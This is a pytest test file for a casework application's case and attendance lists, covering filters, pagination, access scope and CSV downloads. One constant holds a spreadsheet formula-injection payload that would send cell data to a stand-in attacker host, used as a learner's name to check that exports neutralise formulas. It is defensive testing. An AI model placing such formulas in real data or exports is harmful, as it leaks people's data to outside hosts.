"""The lists: cases filtered by stage, programme, mentor and overdue, learners by attendance
band; each paginated, each downloadable as CSV with the same filters (every matching row, cells
a spreadsheet would run as a formula made text); only ever the user's own scope; bad filters
answered in words."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from casework.cases.lists import PER_PAGE
from casework.cases.scan import run_scan
from casework.documents.tables import neutralise
from casework.extensions import db
from casework.fields import FORMULA_STARTS
from casework.models import Case, ProgrammeRole, ProgrammeStaff, Role
from tests.case_fixtures import PLAN, Team, fire
from tests.views.conftest import sign_in

OPENING = "PPPPPPPPUU"  # 80%: below 90%, the scan opens a case
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def case_of(enrolment) -> Case:
    return db.session.scalars(select(Case).where(Case.enrolment_id == enrolment.id)).one()


def rows_of(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    return list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def table_rows(page: str) -> int:
    body = page.split('<tbody class="govuk-table__body">', 1)
    return (
        body[1].split("</tbody>", 1)[0].count('<tr class="govuk-table__row">')
        if len(body) > 1
        else 0
    )


@pytest.fixture
def cases_world(team, make, clock):
    """Cases on a 003 programme at several stages, one closed, one with another mentor, and a
    case on another programme."""
    t: Team = team("003-green-labyrinth")
    monitored = t.learner()
    warned = t.learner()
    closed = t.learner()
    others = t.learner(mentor_id=t.other_mentor.id)
    formula = t.learner()
    formula.learner.given_name = FORMULA
    outsider = make.enrolment(
        learner=make.learner(given_name="Olive", family_name="Outside"),
        programme=t.other_programme,
        mentor_id=t.other_mentor.id,
    )
    for enrolment in (monitored, warned, closed, others, formula, outsider):
        day = t.mark(enrolment, OPENING)
    clock(day)
    run_scan(day)
    fire(t.mentor, case_of(warned), "give_verbal_warning", today=day, action_plan=PLAN)
    fire(t.mentor, case_of(closed), "close", today=day, reason="no_further_action")
    db.session.commit()
    world = {
        "monitored": monitored,
        "warned": warned,
        "closed": closed,
        "others": others,
        "formula": formula,
        "outsider": outsider,
    }
    return t, day, world


def test_a_head_lists_open_cases_by_default_and_closed_or_all_on_request(client, cases_world):
    t, _day, world = cases_world
    sign_in(client, t.head.email)
    page = client.get("/cases").text
    assert '<h1 class="govuk-heading-l">Cases</h1>' in page
    assert "4 open cases," in page
    for key in ("monitored", "warned", "others"):
        assert world[key].learner.full_name in page
    assert world["closed"].learner.full_name not in page
    assert "Olive Outside" not in page
    assert f'href="/cases/{case_of(world["warned"]).id}"' in page
    closed = client.get("/cases?status=closed").text
    assert "1 closed case," in closed and world["closed"].learner.full_name in closed
    assert world["monitored"].learner.full_name not in closed
    assert "5 cases," in client.get("/cases?status=all").text


def test_cases_filter_by_stage_programme_mentor_and_overdue(client, cases_world, clock):
    t, day, world = cases_world
    sign_in(client, t.head.email)
    warned = client.get("/cases?stage=verbal_warning").text
    assert "1 open case," in warned and world["warned"].learner.full_name in warned
    assert world["monitored"].learner.full_name not in warned
    by_mentor = client.get(f"/cases?mentor={t.other_mentor.id}").text
    assert "1 open case," in by_mentor and world["others"].learner.full_name in by_mentor
    by_programme = client.get(f"/cases?programme={t.programme.id}").text
    assert "4 open cases," in by_programme
    # Nothing is overdue yet; a fortnight on, the decisions still waiting are.
    assert "No cases match these filters." in client.get("/cases?overdue=yes").text
    clock(day + timedelta(days=14))
    overdue = client.get("/cases?overdue=yes").text
    assert "3 open cases," in overdue  # monitored, others, formula: the warned one was decided
    assert world["warned"].learner.full_name not in overdue
    assert 'value="yes" checked' in overdue


def test_a_filter_outside_the_users_scope_is_refused_in_words(client, cases_world):
    t, _day, _world = cases_world
    sign_in(client, t.head.email)
    response = client.get(f"/cases?programme={t.other_programme.id}")
    assert response.status_code == 400
    assert "There is a problem with the filters" in response.text
    assert "you have no cases on that one" in response.text
    assert "Olive Outside" not in response.text
    assert t.other_programme.code not in response.text  # not even offered
    csv_response = client.get(f"/cases?programme={t.other_programme.id}&format=csv")
    assert csv_response.status_code == 400 and "Olive Outside" not in csv_response.text
    attendance = client.get(f"/attendance?programme={t.other_programme.id}")
    assert attendance.status_code == 400 and "Olive Outside" not in attendance.text


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("page=abc", "The page number must be a whole number, 1 or more."),
        ("page=0", "The page number must be a whole number, 1 or more."),
        ("page=99999999999999999999", "The page number must be a whole number, 1 or more."),
        ("page=9", "There is no page 9: the list has 1 page."),
        ("stage=limbo", "Choose a stage from the list."),
        ("status=pending", "Choose open, closed or all cases."),
        ("overdue=maybe", "Overdue must be ticked or left empty."),
        ("mentor=abc", "Choose a tutor or mentor from the list"),
        ("programme=-1", "Choose a programme from the list"),
        ("format=xlsx", "The download format must be csv."),
    ],
)
def test_bad_case_filters_are_explained_not_a_server_error(client, cases_world, query, message):
    t, _day, _world = cases_world
    sign_in(client, t.head.email)
    response = client.get(f"/cases?{query}")
    assert response.status_code == 400
    assert message in response.text
    assert '<a href="#filter-' in response.text  # the summary links to the field
    assert "<title>Error: Cases" in response.text


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("band=purple", "Choose an attendance band from the list."),
        ("page=x", "The page number must be a whole number, 1 or more."),
        ("page=2", "There is no page 2: the list has 1 page."),
    ],
)
def test_bad_attendance_filters_are_explained(client, cases_world, query, message):
    t, _day, _world = cases_world
    sign_in(client, t.mentor.email)
    response = client.get(f"/attendance?{query}")
    assert response.status_code == 400 and message in response.text


def test_the_cases_csv_has_every_matching_row_with_formulas_made_text(client, cases_world):
    t, _day, world = cases_world
    sign_in(client, t.head.email)
    rows = rows_of(client.get("/cases?format=csv"))
    assert len(rows) == 4
    assert {r["Stage"] for r in rows} == {"Attendance monitoring", "Verbal warning"}
    formula = next(r for r in rows if r["Learner ID"] == world["formula"].learner.learner_ref)
    assert formula["Learner"] == "'" + world["formula"].learner.full_name
    assert formula["Learner"].startswith("'=HYPERLINK(")
    assert formula["Tutor or mentor"] == t.mentor.name
    assert formula["Case"] == str(case_of(world["formula"]).id)
    warned = next(r for r in rows if r["Learner ID"] == world["warned"].learner.learner_ref)
    assert warned["Decision due"] == "" and warned["Overdue"] == "No"
    # The same filters as the page.
    only = rows_of(client.get("/cases?stage=verbal_warning&format=csv"))
    assert [r["Learner"] for r in only] == [world["warned"].learner.full_name]
    closed = rows_of(client.get("/cases?status=closed&format=csv"))
    assert [r["Closed"] for r in closed] != [""]
    # The page's link carries its filters.
    assert (
        'href="/cases?status=open&amp;stage=verbal_warning&amp;format=csv"'
        in client.get("/cases?stage=verbal_warning").text
    )


def test_the_cases_list_pages_by_25_and_the_csv_has_them_all(client, team, clock):
    t: Team = team("003-green-labyrinth")
    for _ in range(PER_PAGE + 2):
        day = t.mark(t.learner(), OPENING)
    clock(day)
    run_scan(day)
    db.session.commit()
    sign_in(client, t.mentor.email)
    first = client.get("/cases").text
    assert f"{PER_PAGE + 2} open cases," in first and "(showing 1 to 25)" in first
    assert table_rows(first) == PER_PAGE
    assert 'class="govuk-pagination"' in first and 'href="/cases?status=open&amp;page=2"' in first
    second = client.get("/cases?page=2").text
    assert table_rows(second) == 2 and "(showing 26 to 27)" in second
    assert client.get("/cases?page=3").status_code == 400
    assert len(rows_of(client.get("/cases?format=csv&page=2"))) == PER_PAGE + 2


@pytest.fixture
def bands_world(team, make, clock):
    """Learners in every band of 003 (a concern below 90%, early warning 5 points above, target
    100%), one on another programme."""
    t: Team = team("003-green-labyrinth")
    registers = {
        "below": OPENING,  # 80%
        "near": "PPPPPPPPPPPPU",  # 92.3%
        "above": "PPPPPPPPPPPPPPPPPPPU",  # 95%: not within the margin (below 95%)
        "target": "PPPPPPPPPP",  # 100%
        "not_judged": "PPPU",  # 4 sessions: fewer than 10
    }
    world, days = {}, []
    for band, codes in registers.items():
        world[band] = t.learner()
        days.append(t.mark(world[band], codes))
    day = max(days)
    world["below"].learner.given_name = FORMULA
    outsider = make.enrolment(
        learner=make.learner(given_name="Olive", family_name="Outside"),
        programme=t.other_programme,
        mentor_id=t.other_mentor.id,
    )
    t.mark(outsider, OPENING)
    clock(day + timedelta(days=1))
    run_scan(day)
    db.session.commit()
    return t, world


def test_attendance_lists_a_mentors_learners_by_band_lowest_first(client, bands_world):
    t, world = bands_world
    sign_in(client, t.mentor.email)
    page = client.get("/attendance").text
    assert "5 learners, the lowest attendance first" in page
    positions = [page.index(f'href="/learners/{world[b].learner_id}"') for b in world]
    assert positions == sorted(positions)  # below, near, above, target, not judged
    for label in ("Below the threshold", "Near the threshold", "Above the threshold"):
        assert label in page
    assert "At or above target" in page and "Too few sessions to judge" in page
    assert "80.0%" in page and "92.3%" in page and "95.0%" in page
    assert "Olive Outside" not in page
    below = world["below"]
    assert f'href="/learners/{below.learner_id}"' in page
    assert f'href="/cases/{case_of(below).id}"' in page  # the open case the scan opened


def test_attendance_filters_by_band_and_programme(client, new_client, bands_world):
    t, world = bands_world
    sign_in(client, t.head.email)
    near = client.get("/attendance?band=near").text
    assert "1 learner," in near and world["near"].learner.learner_ref in near
    assert world["below"].learner.learner_ref not in near
    assert "5 learners," in client.get(f"/attendance?programme={t.programme.id}").text
    # The other programme's head sees their own learner only.
    client = new_client()
    sign_in(client, t.outsider_head.email)
    page = client.get("/attendance").text
    assert "1 learner," in page and "Olive Outside" in page
    assert world["near"].learner.learner_ref not in page


def test_the_attendance_csv_has_every_matching_learner_with_formulas_made_text(client, bands_world):
    t, world = bands_world
    sign_in(client, t.mentor.email)
    rows = rows_of(client.get("/attendance?format=csv"))
    assert [r["Learner ID"] for r in rows] == [e.learner.learner_ref for e in world.values()]
    below = rows[0]
    assert below["Learner"].startswith("'=HYPERLINK(")
    assert below["Attendance %"] == "80.0" and below["Band"] == "Below the threshold"
    assert below["Threshold"] == "below 90%" and below["Open case"] == str(
        case_of(world["below"]).id
    )
    assert rows[-1]["Attendance %"] == "75.0" and rows[-1]["Band"] == "Too few sessions to judge"
    near = rows_of(client.get("/attendance?band=near&format=csv"))
    assert [r["Learner ID"] for r in near] == [world["near"].learner.learner_ref]


def test_officers_see_no_cases_but_their_programmes_learners_attendance(client, bands_world, make):
    t, _world = bands_world
    officer = make.user(Role.ADMINISTRATION_OFFICER)
    db.session.add(
        ProgrammeStaff(programme=t.programme, user=officer, role=ProgrammeRole.ADMINISTRATION)
    )
    db.session.commit()
    sign_in(client, officer.email)
    assert "You have no open cases." in client.get("/cases").text
    assert "5 learners," in client.get("/attendance").text


@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula_and_keeps_its_text(text):
    cell = neutralise(text)
    if text.startswith(FORMULA_STARTS):
        assert cell == "'" + text
    else:
        assert cell == text
    assert not cell.startswith(FORMULA_STARTS)


@given(st.sampled_from(FORMULA_STARTS), st.text())
def test_every_formula_start_is_neutralised(start, rest):
    assert neutralise(start + rest) == "'" + start + rest


def test_cells_of_other_types_read_as_people_write_them():
    assert neutralise(None) == "" and neutralise(True) == "Yes" and neutralise(False) == "No"
    assert neutralise(date(2026, 9, 7)) == "2026-09-07" and neutralise(12) == "12"
    assert neutralise(-3) == "'-3"  # a negative number is text too: no list has one


def test_the_lists_run_as_many_statements_for_many_rows_as_for_few(client, team, clock, statements):
    t: Team = team("003-green-labyrinth")

    def grow(how_many: int, later: int) -> None:
        for _ in range(how_many):
            for codes in (OPENING, "PPPPPPPPPPPPU", "PPPPPPPPPP"):
                day = t.mark(t.learner(), codes)
        # The clock only goes forward: a signed session cookie from the future is refused.
        clock(day + timedelta(days=later))
        run_scan(day)
        db.session.commit()

    grow(1, later=0)
    sign_in(client, t.head.email)
    paths = ("/cases", "/cases?status=all&overdue=yes", "/attendance", "/attendance?band=near")
    paths += ("/cases?format=csv", "/attendance?format=csv")
    few = {path: statements(client, path) for path in paths}
    grow(4, later=1)
    assert "5 open cases," in client.get("/cases").text
    assert {path: statements(client, path) for path in paths} == few


def test_a_scope_past_the_id_list_limit_reads_the_whole_tables_figures(
    client, bands_world, monkeypatch
):
    """Thousands of learners in scope (an administrator's) are read with one aggregate over
    the whole table, not one bound parameter each; the list is the same."""
    t, world = bands_world
    sign_in(client, t.head.email)
    before = rows_of(client.get("/attendance?format=csv"))
    monkeypatch.setattr("casework.cases.lists._WHOLE_TABLE_FROM", 2)
    assert rows_of(client.get("/attendance?format=csv")) == before
    assert [r["Learner ID"] for r in before] == [e.learner.learner_ref for e in world.values()]
